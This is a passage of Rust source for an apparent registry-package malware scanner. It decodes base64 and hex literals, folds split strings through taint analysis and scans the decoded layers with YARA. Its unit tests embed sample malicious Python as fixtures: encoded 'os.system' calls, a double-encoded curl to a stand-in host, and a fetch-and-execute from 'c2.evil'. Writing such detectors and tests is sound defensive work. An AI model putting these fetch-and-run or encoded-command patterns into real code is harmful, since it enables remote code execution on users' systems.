            PackageMetadata::new("pkg", "1.0"),
            vec![
                SourceFile::new("setup.py", "from setuptools import setup\nsetup()\n"),
                SourceFile::new("pkg/data.txt", "not python\n"),
            ],
            Ecosystem::PyPi,
        )
    }

    #[test]
    fn from_package_includes_metadata_and_python_sources() {
        let req = ScanRequest::from_package(&sample());
        let text = String::from_utf8_lossy(&req.buffer).into_owned();
        assert!(text.contains("Name: pkg"));
        assert!(text.contains("setuptools"));
        assert_eq!(req.sources.len(), 1, "only .py files are Semgrep sources");
    }

    #[test]
    fn digest_is_stable_and_content_sensitive() {
        let a = ScanRequest::from_package(&sample());
        let b = ScanRequest::from_package(&sample());
        assert_eq!(a.digest(), b.digest());
        let mut c = a.clone();
        c.buffer.push(b'!');
        assert_ne!(a.digest(), c.digest());
    }

    #[test]
    fn digest_distinguishes_buffer_from_sources() {
        let a = ScanRequest::new(b"xy".to_vec(), vec![]);
        let b = ScanRequest::new(b"x".to_vec(), vec!["y".to_owned()]);
        assert_ne!(a.digest(), b.digest());
    }

    #[test]
    fn digest_hex_renders_the_raw_digest() {
        let req = ScanRequest::new(b"data".to_vec(), vec!["src".to_owned()]);
        let hex = req.digest_hex();
        assert_eq!(hex.len(), 64);
        assert!(hex.chars().all(|c| c.is_ascii_hexdigit()));
        let raw = req.digest();
        assert!(hex.starts_with(&format!("{:02x}", raw[0])));
    }
}

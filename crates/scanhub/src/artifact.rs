//! Per-file analysis artifacts: the parse-once IR every engine shares.
//!
//! Successive versions of a registry package share most of their files,
//! yet the seed scan path treated every request as opaque bytes and
//! re-ran lexing, parsing and string scanning per request. A
//! [`FileAnalysis`] computes everything a file will ever be asked for —
//! spanned tokens, the tolerant-parsed module, the interned
//! string-literal table, **decoded layers** (base64/hex payloads hidden
//! in literals) and the ruleset's string-definition hits on every layer
//! — exactly once, keyed by content digest, so the artifact cache turns
//! a version bump into `changed files` parses instead of `all files`.
//!
//! Decoded layers close a measured evasion gap: `docs/threat_model.md`
//! records a ~37-point recall collapse under string-encoding
//! obfuscation for rules that only see surface text. Literals above an
//! entropy/length threshold are base64/hex-decoded (recursively, to a
//! bounded depth — attackers double-encode), and YARA scans each
//! decoded layer as its own unit, with findings tagged by layer so
//! verdicts stay explainable.

use std::fmt;
use std::sync::{Arc, OnceLock};

use pysrc::{Module, SpannedToken, Stmt, StringTable, TokenKind, TokenRope, TokenView};
use yara_engine::{FileHits, Scanner};

use crate::cache::DigestKey;
use crate::request::FileEntry;

/// How a decoded layer was recovered from its source literal.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum LayerEncoding {
    /// RFC 4648 base64 (the `b64decode(...)` idiom).
    Base64,
    /// Lowercase/uppercase hex pairs (the `bytes.fromhex(...)` idiom).
    Hex,
    /// Constant folded by the dataflow engine: a string rebuilt from a
    /// concat/`%`-format/decode chain that no single literal carries.
    Folded,
}

impl fmt::Display for LayerEncoding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            LayerEncoding::Base64 => "base64",
            LayerEncoding::Hex => "hex",
            LayerEncoding::Folded => "folded",
        })
    }
}

/// One decoded string-literal payload of a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecodedLayer {
    /// The encoding that produced this layer.
    pub encoding: LayerEncoding,
    /// Nesting depth: 1 decodes a surface literal, 2 a literal found
    /// inside a depth-1 layer, and so on.
    pub depth: u8,
    /// 1-based source line of the (surface) literal this layer descends
    /// from — the explainability anchor for layer-tagged findings.
    pub line: u32,
    /// The decoded bytes, scanned by YARA as an independent unit.
    pub data: Vec<u8>,
}

/// Decoded-layer extraction thresholds.
#[derive(Debug, Clone)]
pub struct ArtifactConfig {
    /// Maximum decode recursion depth; 0 disables layer extraction
    /// entirely (the A/B lever for the layered-robustness measurement).
    pub max_decode_depth: u8,
    /// Minimum encoded-literal length worth attempting (short literals
    /// decode to nothing a rule could match).
    pub min_encoded_len: usize,
    /// Minimum Shannon entropy (bits/byte) of the literal text; prose
    /// and repeated-character padding stay below it, encoded payloads
    /// sit well above.
    pub min_entropy: f64,
    /// Hard per-file bound on extracted layers (decode-bomb guard).
    pub max_layers: usize,
    /// Run the behavioral taint analysis and fold constant strings into
    /// synthetic [`LayerEncoding::Folded`] layers. The A/B lever for the
    /// taint-robustness measurement and the warm-overhead bench.
    pub dataflow: bool,
}

impl Default for ArtifactConfig {
    fn default() -> Self {
        ArtifactConfig {
            max_decode_depth: 2,
            min_encoded_len: 12,
            min_entropy: 2.5,
            max_layers: 64,
            dataflow: true,
        }
    }
}

impl ArtifactConfig {
    /// A config with layer extraction disabled.
    pub fn without_layers() -> Self {
        ArtifactConfig {
            max_decode_depth: 0,
            ..ArtifactConfig::default()
        }
    }

    /// A config with the taint/fold stage disabled.
    pub fn without_dataflow() -> Self {
        ArtifactConfig {
            dataflow: false,
            ..ArtifactConfig::default()
        }
    }
}

/// The parse-once, content-addressed analysis of one file.
///
/// Everything here is a pure function of `(file bytes, python-ness,
/// ruleset, config)`, which is what makes the artifact cacheable: the
/// hub's [`crate::ScanHub`] keys a shared LRU by [`FileEntry::digest`]
/// and every engine — prefilter routing, YARA condition evaluation,
/// Semgrep's structural matcher, decoded-layer scanning — consumes the
/// same artifact without touching the bytes again.
#[derive(Debug)]
pub struct FileAnalysis {
    /// The content digest this artifact is addressed by.
    pub digest: DigestKey,
    /// The raw bytes (shared with the originating request — building an
    /// artifact copies no file content).
    pub bytes: Arc<Vec<u8>>,
    /// Whether the file was analyzed as Python source.
    pub is_python: bool,
    /// The spanned token stream (empty for non-Python files). Literals
    /// survive here even inside statements the tolerant parser degraded
    /// to `Stmt::Other`. Stored as a [`TokenRope`] so a spliced build
    /// shares the unchanged prefix/suffix with its sibling artifact
    /// instead of deep-cloning every token.
    pub tokens: TokenRope,
    /// The tolerant-parsed module (Python files only), materialized
    /// lazily: a spliced artifact records *how* to assemble its module
    /// from the sibling's and pays the statement clones only when an
    /// engine actually walks the tree (see [`LazyModule`]).
    pub module: Option<Arc<LazyModule>>,
    /// The interned string-literal table.
    pub strings: StringTable,
    /// Decoded payload layers, in discovery order. Includes synthetic
    /// [`LayerEncoding::Folded`] layers for constants the taint engine
    /// rebuilt from concat/decode chains.
    pub layers: Vec<DecodedLayer>,
    /// The whole ruleset's string-definition hits on the raw bytes
    /// (`None` when the hub has no YARA ruleset).
    pub yara_hits: Option<FileHits>,
    /// Per-layer hit sets, parallel to `layers`.
    pub layer_hits: Vec<FileHits>,
    /// The behavioral taint summary (source→sink flows plus folded
    /// constants), computed exactly once per digest like everything else
    /// in the artifact. `None` for non-Python files or when
    /// [`ArtifactConfig::dataflow`] is off.
    pub taint: Option<dataflow::TaintSummary>,
}

/// Line and shape of one top-level statement — the donor-module facts
/// the splicer consults without materializing the tree.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct StmtMeta {
    /// 1-based source line of the statement.
    line: usize,
    /// An anonymous indent block (`Stmt::Block` with an empty keyword):
    /// the tolerant parser stamps these with the line of the token
    /// *after* the block, which defeats line-keyed splicing.
    anonymous: bool,
}

/// How to assemble a spliced module from its donor: prefix statements
/// before the window, the window's freshly parsed statements, and the
/// donor's suffix statements shifted by the edit's net line count.
#[derive(Debug)]
struct SpliceParts {
    donor: Arc<LazyModule>,
    window: Module,
    /// Donor statements with `line < prefix_before_line` form the prefix.
    prefix_before_line: usize,
    /// Donor statements with `line >= suffix_from_line` form the suffix
    /// (ignored when `has_suffix` is false — the window ran to EOF).
    suffix_from_line: usize,
    has_suffix: bool,
    line_delta: isize,
}

/// A module that may not be assembled yet.
///
/// A full build stores its parsed [`Module`] directly. A spliced build
/// stores [`SpliceParts`] — a handle to the donor's `LazyModule`, the
/// window's parsed statements and the line ranges to cut at — and
/// assembles the tree only when an engine first calls [`Self::get`]
/// (Semgrep matching, the taint analysis, retro-hunt confirmation).
/// Version-bump streams that never walk the AST therefore never pay the
/// statement clones; the result is cached, so consumers that do walk it
/// pay once per artifact. Assembly is iterative over the donor chain,
/// so a long never-walked version history cannot overflow the stack.
#[derive(Debug)]
pub struct LazyModule {
    summary: Vec<StmtMeta>,
    cell: OnceLock<Module>,
    parts: Option<SpliceParts>,
}

fn summarize(module: &Module) -> Vec<StmtMeta> {
    module
        .body
        .iter()
        .map(|stmt| StmtMeta {
            line: stmt.line(),
            anonymous: matches!(stmt, Stmt::Block { keyword, .. } if keyword.is_empty()),
        })
        .collect()
}

impl LazyModule {
    /// Wraps an eagerly parsed module (the full-build path).
    fn full(module: Module) -> Arc<Self> {
        let summary = summarize(&module);
        let cell = OnceLock::new();
        cell.set(module).expect("fresh cell");
        Arc::new(LazyModule {
            summary,
            cell,
            parts: None,
        })
    }

    /// Records a splice recipe; the summary is composed from the
    /// donor's without touching either tree.
    fn spliced(
        donor: Arc<LazyModule>,
        window: Module,
        prefix_before_line: usize,
        suffix_from_line: usize,
        has_suffix: bool,
        line_delta: isize,
    ) -> Arc<Self> {
        let mut summary: Vec<StmtMeta> = donor
            .summary
            .iter()
            .take_while(|m| m.line < prefix_before_line)
            .copied()
            .collect();
        summary.extend(summarize(&window));
        if has_suffix {
            summary.extend(
                donor
                    .summary
                    .iter()
                    .skip_while(|m| m.line < suffix_from_line)
                    .map(|m| StmtMeta {
                        line: m.line.saturating_add_signed(line_delta),
                        anonymous: m.anonymous,
                    }),
            );
        }
        Arc::new(LazyModule {
            summary,
            cell: OnceLock::new(),
            parts: Some(SpliceParts {
                donor,
                window,
                prefix_before_line,
                suffix_from_line,
                has_suffix,
                line_delta,
            }),
        })
    }

    /// The module, assembling (and caching) it on first use.
    pub fn get(&self) -> &Module {
        if let Some(module) = self.cell.get() {
            return module;
        }
        // Walk down the donor chain to the deepest unassembled link —
        // full builds are assembled by construction, so the walk always
        // terminates — then assemble back up.
        let mut chain: Vec<&LazyModule> = Vec::new();
        let mut cur = self;
        while cur.cell.get().is_none() {
            chain.push(cur);
            let parts = cur.parts.as_ref().expect("unassembled module has parts");
            cur = &parts.donor;
        }
        for lazy in chain.into_iter().rev() {
            lazy.cell.get_or_init(|| lazy.assemble());
        }
        self.cell.get().expect("assembled above")
    }

    fn assemble(&self) -> Module {
        let parts = self.parts.as_ref().expect("only spliced modules assemble");
        let donor = parts.donor.cell.get().expect("donor assembled first");
        let mut body: Vec<Stmt> = donor
            .body
            .iter()
            .take_while(|stmt| stmt.line() < parts.prefix_before_line)
            .cloned()
            .collect();
        body.extend(parts.window.body.iter().cloned());
        if parts.has_suffix {
            let first = donor
                .body
                .iter()
                .position(|stmt| stmt.line() >= parts.suffix_from_line)
                .unwrap_or(donor.body.len());
            for stmt in &donor.body[first..] {
                let mut stmt = stmt.clone();
                stmt.shift_lines(parts.line_delta);
                body.push(stmt);
            }
        }
        Module { body }
    }
}

impl FileAnalysis {
    /// Builds the artifact for one file entry. This is the only place
    /// in the scan path that lexes, parses, decodes or byte-scans file
    /// content; everything downstream consumes the result.
    pub fn build(entry: &FileEntry, scanner: Option<&Scanner<'_>>, cfg: &ArtifactConfig) -> Self {
        let bytes = entry.shared_bytes();
        let is_python = entry.is_python();
        let (tokens, module) = if is_python {
            let text = String::from_utf8_lossy(&bytes);
            let tokens = TokenRope::from_tokens(pysrc::lex_spanned(&text));
            let module = LazyModule::full(pysrc::parse_module(&text));
            (tokens, Some(module))
        } else {
            (TokenRope::default(), None)
        };
        Self::finish(
            entry.digest(),
            bytes,
            is_python,
            tokens,
            module,
            scanner,
            cfg,
        )
    }

    /// Derives every downstream product (string table, decoded layers,
    /// taint, YARA hits) from an already-built token stream and module.
    /// Shared by the full build and the incremental splice so the two
    /// paths cannot drift: splice ≡ full holds whenever the tokens and
    /// module are equal, because everything below this line is a pure
    /// function of them plus the bytes.
    fn finish(
        digest: DigestKey,
        bytes: Arc<Vec<u8>>,
        is_python: bool,
        tokens: TokenRope,
        module: Option<Arc<LazyModule>>,
        scanner: Option<&Scanner<'_>>,
        cfg: &ArtifactConfig,
    ) -> Self {
        let strings = if is_python {
            pysrc::intern_rope(&tokens)
        } else {
            StringTable::default()
        };
        let mut layers = decode_layers(&strings, cfg);
        let taint = match (&module, cfg.dataflow) {
            (Some(m), true) => Some(dataflow::analyze(m.get())),
            _ => None,
        };
        if let Some(summary) = &taint {
            fold_layers(&mut layers, &strings, summary, cfg);
        }
        let yara_hits = scanner.map(|s| s.collect_hits(&bytes));
        let layer_hits = scanner.map_or_else(Vec::new, |s| {
            layers.iter().map(|l| s.collect_hits(&l.data)).collect()
        });
        FileAnalysis {
            digest,
            bytes,
            is_python,
            tokens,
            module,
            strings,
            layers,
            yara_hits,
            layer_hits,
            taint,
        }
    }

    /// Approximate heap footprint, for cache accounting.
    pub fn stored_bytes(&self) -> usize {
        self.bytes.len()
            + self.layers.iter().map(|l| l.data.len() + 16).sum::<usize>()
            + self
                .strings
                .literals
                .iter()
                .map(|s| s.len() + 24)
                .sum::<usize>()
            + self.strings.refs.len() * 8
            + self.tokens.len() * 64
            + self
                .yara_hits
                .as_ref()
                .map_or(0, yara_engine::FileHits::stored_bytes)
            + self
                .layer_hits
                .iter()
                .map(yara_engine::FileHits::stored_bytes)
                .sum::<usize>()
            + self
                .taint
                .as_ref()
                .map_or(0, dataflow::TaintSummary::stored_bytes)
    }

    /// Attempts an incremental build by splicing the edit into a cached
    /// sibling artifact (a previous version of the same file) instead of
    /// re-lexing and re-parsing the whole content.
    ///
    /// The contract is strict equivalence: on `Some`, the returned
    /// artifact is field-for-field identical to what a full
    /// [`FileAnalysis::build`] would produce for `entry` — the
    /// differential tests below pin tokens, module, string table,
    /// layers, hits and taint. Only the lex/parse work is reused; every
    /// downstream product is recomputed through the same [`Self::finish`]
    /// the full build uses, so the artifact stays a pure function of its
    /// bytes.
    ///
    /// Returns `None` (the caller falls back to a full build) whenever
    /// the splice is not provably clean:
    ///
    /// * either side is not Python, or the sibling carries no module;
    /// * either byte buffer is not strict UTF-8 (span offsets index the
    ///   decoded text, and lossy decoding changes byte widths);
    /// * the sibling's statement layout defeats line-based selection
    ///   (anonymous indent blocks, non-monotone statement lines);
    /// * the edited window exceeds half the file (a full build is
    ///   cheaper than cloning most of the sibling);
    /// * the window relex does not end cleanly at a statement boundary
    ///   (open bracket, unterminated string, trailing `\` continuation,
    ///   or a changed region that removed the boundary newline).
    pub fn build_spliced(
        entry: &FileEntry,
        sibling: &FileAnalysis,
        scanner: Option<&Scanner<'_>>,
        cfg: &ArtifactConfig,
    ) -> Option<Spliced> {
        if !entry.is_python() || !sibling.is_python {
            return None;
        }
        let old_lazy = sibling.module.as_ref()?;
        let bytes = entry.shared_bytes();
        let new_text = std::str::from_utf8(&bytes).ok()?;
        let old_text = std::str::from_utf8(&sibling.bytes).ok()?;
        let (old, new) = (old_text.as_bytes(), new_text.as_bytes());

        // Statement selection below keys on line numbers, which is only
        // sound when top-level statements sit in source order and take
        // their line from their own first token. Anonymous indent blocks
        // break the latter (the tolerant parser stamps them with the
        // line of the token *after* the block). The checks read the
        // sibling's statement summary, never the tree itself — a version
        // chain that is only ever spliced stays unmaterialized.
        let mut last_line = 0usize;
        for meta in &old_lazy.summary {
            if meta.anonymous || meta.line < last_line {
                return None;
            }
            last_line = meta.line;
        }

        // Changed byte region: [p, q_old) in the old content. The common
        // suffix is measured after the common prefix so the two cannot
        // overlap on repeated text.
        let p = old
            .iter()
            .zip(new.iter())
            .take_while(|(a, b)| a == b)
            .count();
        let s = old[p..]
            .iter()
            .rev()
            .zip(new[p..].iter().rev())
            .take_while(|(a, b)| a == b)
            .count();
        let q_old = old.len() - s;
        let delta = new.len() as isize - old.len() as isize;

        // Splice boundaries: column-zero statement starts of the OLD
        // token stream where the lexer state is fully known (indent
        // stack [0], fresh line — see `splice_boundary`). The window is
        // the smallest boundary-delimited region covering the edit;
        // offset 0 is always a valid start. No boundary after the edit
        // means the edit runs to EOF and the window simply extends to
        // the end of the new content.
        let toks = &sibling.tokens;
        let mut start = (0usize, 0usize);
        let mut end: Option<(usize, usize)> = None;
        for (i, (cur, next)) in toks.iter().zip(toks.iter().skip(1)).enumerate() {
            if !splice_boundary(&cur, &next) {
                continue;
            }
            let at = next.start;
            // A window START additionally requires the byte gap between
            // the NEWLINE and the boundary token to be blank lines only.
            // The gap is token-free, so it can only hold blank lines or
            // backslash continuations — and a continuation reaches the
            // boundary token without going through indentation handling,
            // while a relex window must begin in the fresh-lexer state.
            // (An END tolerates a continuation gap: it lies inside the
            // window, where it either survives into the new content and
            // makes the relex end unclean, or was edited away.)
            let blank_gap = old[cur.end..at]
                .iter()
                .all(|b| matches!(b, b' ' | b'\t' | b'\r' | b'\n'));
            if at <= p && blank_gap {
                start = (i + 1, at);
            }
            if at >= q_old {
                end = Some((i + 1, at));
                // Boundary positions strictly increase and q_old >= p,
                // so no later boundary can move `start` either.
                break;
            }
        }
        let (prefix_len, w) = start;
        let (e_old, suffix_from) = match end {
            Some((idx, at)) => (at, Some(idx)),
            None => (old.len(), None),
        };
        let e_new = e_old.checked_add_signed(delta)?;

        // Profitability gate: relexing more than half the file gains
        // nothing over a full build.
        if e_new < w || (e_new - w) * 2 > new.len() {
            return None;
        }
        // A mid-file window must end exactly at a line start, or the
        // suffix's first line would really be a continuation of the
        // window's last. The old boundary guarantees `old[e_old-1]` is a
        // newline, but an edit ending exactly at `q_old` can replace it.
        if suffix_from.is_some() && e_new > w && new[e_new - 1] != b'\n' {
            return None;
        }

        let window = pysrc::lex_window(new_text, w, e_new);
        if suffix_from.is_some() && !window.ends_at_statement_boundary {
            return None;
        }
        let relexed_bytes = (e_new - w) as u64;
        let line_delta =
            count_newlines(&new[w..e_new]) as isize - count_newlines(&old[w..e_old]) as isize;

        let mut window_tokens = window.tokens;
        if suffix_from.is_some() {
            // Drop the window's EOF and the close-out's synthetic
            // NEWLINE (width zero, emitted when the window ends in a
            // comment line): the full lexer emits neither mid-stream.
            // Close-out DEDENTs stay — the full lexer emits the same
            // dedents at the suffix's column-zero statement, at the same
            // position and line.
            if matches!(
                window_tokens.last().map(SpannedToken::kind),
                Some(TokenKind::Eof)
            ) {
                window_tokens.pop();
            }
            let dedents = window_tokens
                .iter()
                .rev()
                .take_while(|t| matches!(t.kind(), TokenKind::Dedent))
                .count();
            if let Some(at) = window_tokens.len().checked_sub(dedents + 1) {
                if matches!(window_tokens[at].kind(), TokenKind::Newline)
                    && window_tokens[at].start == window_tokens[at].end
                {
                    window_tokens.remove(at);
                }
            }
        }

        // Statement splice, recorded lazily: sibling statements strictly
        // before the window keep their shapes and lines; the window's
        // statements are parsed from its freshly relexed tokens; sibling
        // statements strictly after it shift by the edit's net line
        // count. In the run-to-EOF case there is no suffix — the window
        // parse covers everything from `w` on. Only the tiny window is
        // parsed here; the prefix/suffix statement clones are deferred
        // until an engine walks the tree ([`LazyModule::get`]).
        let lw = 1 + count_newlines(&old[..w]);
        let le_old = 1 + count_newlines(&old[..e_old]);
        let window_module =
            pysrc::parse_tokens(window_tokens.iter().map(|t| t.token.clone()).collect());
        let module = LazyModule::spliced(
            Arc::clone(old_lazy),
            window_module,
            lw,
            le_old,
            suffix_from.is_some(),
            line_delta,
        );

        // Token splice: the prefix and suffix share the sibling's rope
        // storage — the suffix as a lazily rebased segment (byte and
        // line deltas applied at read time) — and only the relexed
        // window contributes fresh tokens. Long splice chains fragment
        // the rope; consolidation copies it back into one segment every
        // few dozen generations.
        let mut tokens = toks.slice(0..prefix_len);
        tokens.push_tokens(window_tokens);
        if let Some(from) = suffix_from {
            tokens.push_slice_shifted(toks, from..toks.len(), delta, line_delta);
        }
        tokens.consolidate_if_fragmented(64);

        Some(Spliced {
            relexed_bytes,
            analysis: Self::finish(
                entry.digest(),
                bytes,
                true,
                tokens,
                Some(module),
                scanner,
                cfg,
            ),
        })
    }
}

/// A successful incremental build: the artifact plus how much content
/// was actually re-lexed (the hub's `relexed_bytes` telemetry).
#[derive(Debug)]
pub struct Spliced {
    /// The finished artifact — field-for-field identical to a full
    /// [`FileAnalysis::build`] of the same entry.
    pub analysis: FileAnalysis,
    /// Bytes of the new content covered by the re-lexed window.
    pub relexed_bytes: u64,
}

/// True when old token `cur` ends a statement at a point where the
/// lexer state is provably `indent stack == [0]`: a real NEWLINE (width
/// one) whose stream successor `next` is a column-zero content token.
/// The successor conditions rule out every shape where that proof
/// fails:
///
/// * an INDENT/DEDENT successor (empty span) means the stack is not
///   `[0]` at the boundary — relexing from there with a fresh stack
///   would drop the dedents;
/// * a comment token at column zero proves nothing about the stack
///   (comment-only lines skip indent tracking entirely);
/// * a non-zero column means the boundary is not a line start.
///
/// A column-zero content token with no INDENT/DEDENT in front of it can
/// only be lexed with the stack top — hence, the whole stack — at 0.
fn splice_boundary(cur: &TokenView<'_>, next: &TokenView<'_>) -> bool {
    matches!(cur.kind(), TokenKind::Newline)
        && cur.end == cur.start + 1
        && next.token.col == 0
        && next.end > next.start
        && !matches!(next.kind(), TokenKind::Comment(_))
}

fn count_newlines(bytes: &[u8]) -> usize {
    bytes.iter().filter(|&&b| b == b'\n').count()
}

/// Appends synthetic layers for constants the taint engine folded out
/// of concat/format/decode chains, so YARA atoms split across `'ev' +
/// 'il.com'` still match. A folded constant that already exists as a
/// surface literal adds no new evidence and is skipped; one that is
/// itself an encoded payload (the obfuscator stacks string-splitting
/// *under* base64) gets a further decode attempt.
fn fold_layers(
    layers: &mut Vec<DecodedLayer>,
    strings: &StringTable,
    summary: &dataflow::TaintSummary,
    cfg: &ArtifactConfig,
) {
    for fc in &summary.folded {
        if layers.len() >= cfg.max_layers {
            break;
        }
        let data = fc.text.as_bytes().to_vec();
        if layers.iter().any(|l| l.data == data) || strings.literals.contains(&fc.text) {
            continue;
        }
        if let Some((encoding, decoded)) = decode_candidate(&fc.text, cfg) {
            if cfg.max_decode_depth > 0 && !layers.iter().any(|l| l.data == decoded) {
                layers.push(DecodedLayer {
                    encoding,
                    depth: 2,
                    line: fc.line,
                    data: decoded,
                });
            }
        }
        layers.push(DecodedLayer {
            encoding: LayerEncoding::Folded,
            depth: 1,
            line: fc.line,
            data,
        });
    }
}

/// Extracts decoded layers from a file's interned literals, recursing
/// into layers that themselves contain encoded literals.
fn decode_layers(strings: &StringTable, cfg: &ArtifactConfig) -> Vec<DecodedLayer> {
    let mut layers: Vec<DecodedLayer> = Vec::new();
    if cfg.max_decode_depth == 0 {
        return layers;
    }
    // One pass over the refs for first-occurrence lines: a per-literal
    // `first_line` lookup would be O(literals × refs), quadratic on
    // attacker-controlled input.
    let mut first_lines = vec![0u32; strings.literals.len()];
    for r in strings.refs.iter().rev() {
        first_lines[r.literal as usize] = r.line;
    }
    // (text to examine, depth it would decode at, anchor line)
    let mut pending: Vec<(String, u8, u32)> = Vec::new();
    for (idx, lit) in strings.literals.iter().enumerate() {
        pending.push((lit.clone(), 1, first_lines[idx]));
    }
    while let Some((text, depth, line)) = pending.pop() {
        if layers.len() >= cfg.max_layers {
            break;
        }
        let Some((encoding, data)) = decode_candidate(&text, cfg) else {
            continue;
        };
        if layers.iter().any(|l| l.data == data) {
            continue;
        }
        if depth < cfg.max_decode_depth {
            if let Ok(inner) = std::str::from_utf8(&data) {
                // A decoded payload that is itself Python carries its
                // own literals (attackers double-encode); a bare blob
                // may simply be encoded a second time.
                let inner_strings = pysrc::intern_strings(&pysrc::lex_spanned(inner));
                for lit in &inner_strings.literals {
                    pending.push((lit.clone(), depth + 1, line));
                }
                pending.push((inner.to_owned(), depth + 1, line));
            }
        }
        layers.push(DecodedLayer {
            encoding,
            depth,
            line,
            data,
        });
    }
    layers
}

/// Attempts to decode one literal, preferring hex (every hex string is
/// also base64-alphabet, so the more specific decoder goes first).
fn decode_candidate(text: &str, cfg: &ArtifactConfig) -> Option<(LayerEncoding, Vec<u8>)> {
    let t = text.trim();
    if t.len() < cfg.min_encoded_len || digest::shannon_entropy(t.as_bytes()) < cfg.min_entropy {
        return None;
    }
    if looks_hex(t) {
        return decode_hex(t).map(|d| (LayerEncoding::Hex, d));
    }
    if looks_base64(t) {
        return digest::base64::decode(t)
            .ok()
            .filter(|d| !d.is_empty())
            .map(|d| (LayerEncoding::Base64, d));
    }
    None
}

fn looks_hex(t: &str) -> bool {
    t.len().is_multiple_of(2)
        && t.bytes().all(|b| b.is_ascii_hexdigit())
        // Require at least one letter so long decimal ids don't decode.
        && t.bytes().any(|b| b.is_ascii_alphabetic())
}

fn decode_hex(t: &str) -> Option<Vec<u8>> {
    t.as_bytes()
        .chunks_exact(2)
        .map(|pair| {
            let hi = (pair[0] as char).to_digit(16)?;
            let lo = (pair[1] as char).to_digit(16)?;
            Some((hi * 16 + lo) as u8)
        })
        .collect()
}

fn looks_base64(t: &str) -> bool {
    if !t.len().is_multiple_of(4) {
        return false;
    }
    let body = t.trim_end_matches('=');
    if t.len() - body.len() > 2 {
        return false;
    }
    body.bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(name: &str, code: &str) -> FileEntry {
        FileEntry::new(name, code.as_bytes().to_vec())
    }

    fn analyze(code: &str) -> FileAnalysis {
        FileAnalysis::build(&entry("mod.py", code), None, &ArtifactConfig::default())
    }

    #[test]
    fn python_entry_carries_tokens_module_and_strings() {
        let a = analyze("import os\nc2 = 'bexlum.top'\nos.system('id')\n");
        assert!(a.is_python);
        assert!(!a.tokens.is_empty());
        let module = a.module.as_ref().expect("parsed module");
        assert_eq!(module.get().body.len(), 3);
        assert!(a.strings.literals.contains(&"bexlum.top".to_owned()));
        assert!(a.yara_hits.is_none(), "no scanner supplied");
    }

    #[test]
    fn non_python_entry_skips_python_analysis() {
        let a = FileAnalysis::build(
            &entry("PKG-INFO", "Name: pkg\nVersion: 1.0\n"),
            None,
            &ArtifactConfig::default(),
        );
        assert!(!a.is_python);
        assert!(a.module.is_none());
        assert!(a.tokens.is_empty());
        assert!(a.strings.is_empty());
        assert!(a.layers.is_empty());
    }

    #[test]
    fn base64_literal_above_threshold_is_decoded() {
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let a = analyze(&format!(
            "import base64\nblob = '{payload}'\nrun(base64.b64decode(blob))\n"
        ));
        assert_eq!(a.layers.len(), 1);
        let layer = &a.layers[0];
        assert_eq!(layer.encoding, LayerEncoding::Base64);
        assert_eq!(layer.depth, 1);
        assert_eq!(layer.line, 2);
        assert_eq!(layer.data, b"import os;os.system('id')");
    }

    #[test]
    fn hex_literal_is_decoded_as_hex_not_base64() {
        let hex: String = b"os.system('id')"
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let a = analyze(&format!("cmd = bytes.fromhex('{hex}')\n"));
        assert_eq!(a.layers.len(), 1);
        assert_eq!(a.layers[0].encoding, LayerEncoding::Hex);
        assert_eq!(a.layers[0].data, b"os.system('id')");
    }

    #[test]
    fn short_or_low_entropy_literals_are_not_decoded() {
        // Short ('aWQ=' is base64 of 'id'), low-entropy padding, and
        // prose all stay un-decoded.
        let a = analyze(
            "a = 'aWQ='\nb = 'aaaaaaaaaaaaaaaaaaaaaaaa'\nc = 'the quick brown fox jumps'\n",
        );
        assert!(a.layers.is_empty(), "unexpected layers: {:?}", a.layers);
    }

    #[test]
    fn double_encoded_payload_recurses_to_bounded_depth() {
        let inner = digest::base64::encode(b"os.system('curl http://bexlum.top')");
        let once = format!("__import__('base64').b64decode('{inner}').decode('utf-8')");
        let outer = digest::base64::encode(once.as_bytes());
        let a = analyze(&format!("layered = '{outer}'\n"));
        // Depth 1: the decoded python snippet; depth 2: the payload its
        // literal hides.
        assert!(a.layers.iter().any(|l| l.depth == 1));
        let deep: Vec<&DecodedLayer> = a.layers.iter().filter(|l| l.depth == 2).collect();
        assert!(
            deep.iter()
                .any(|l| l.data == b"os.system('curl http://bexlum.top')"),
            "depth-2 payload not recovered: {:?}",
            a.layers
        );
        // Depth is bounded: default config stops at 2.
        assert!(a.layers.iter().all(|l| l.depth <= 2));
    }

    #[test]
    fn zero_depth_config_extracts_nothing() {
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let a = FileAnalysis::build(
            &entry("mod.py", &format!("blob = '{payload}'\n")),
            None,
            &ArtifactConfig::without_layers(),
        );
        assert!(a.layers.is_empty());
    }

    #[test]
    fn layer_extraction_is_bounded() {
        let mut code = String::new();
        for i in 0..200 {
            let payload = digest::base64::encode(format!("payload number {i:04}").as_bytes());
            code.push_str(&format!("x{i} = '{payload}'\n"));
        }
        let a = analyze(&code);
        assert!(a.layers.len() <= ArtifactConfig::default().max_layers);
        assert!(!a.layers.is_empty());
    }

    #[test]
    fn scanner_hits_cover_raw_bytes_and_layers() {
        let rules = yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
            .expect("compile");
        let scanner = Scanner::new(&rules);
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let a = FileAnalysis::build(
            &entry("mod.py", &format!("blob = '{payload}'\n")),
            Some(&scanner),
            &ArtifactConfig::default(),
        );
        // Raw bytes: no surface hit (the atom is encoded away).
        assert!(a.yara_hits.as_ref().expect("hits").is_empty());
        // The decoded layer exposes it.
        assert_eq!(a.layer_hits.len(), a.layers.len());
        assert!(a.layer_hits.iter().any(|h| !h.is_empty()));
    }

    #[test]
    fn taint_summary_rides_the_artifact() {
        let a = analyze(
            "import requests\nimport os\ncmd = requests.get('http://c2.evil/t').text\nos.system(cmd)\n",
        );
        let taint = a.taint.as_ref().expect("taint summary");
        assert_eq!(taint.flows.len(), 1);
        assert_eq!(taint.flows[0].sink, "os.system");
        // The config lever skips the stage entirely.
        let off = FileAnalysis::build(
            &entry("mod.py", "x = 1\n"),
            None,
            &ArtifactConfig::without_dataflow(),
        );
        assert!(off.taint.is_none());
    }

    #[test]
